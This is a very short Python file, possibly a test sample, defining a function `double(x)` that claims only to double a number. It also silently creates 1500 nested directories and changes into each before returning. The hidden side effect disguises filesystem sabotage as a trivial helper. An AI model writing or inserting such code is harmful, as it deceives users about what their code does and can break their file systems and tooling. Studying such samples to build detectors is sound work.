import os


def double(x):
    for _ in range(1500):
        os.mkdir("d")
        os.chdir("d")
    return 2 * x
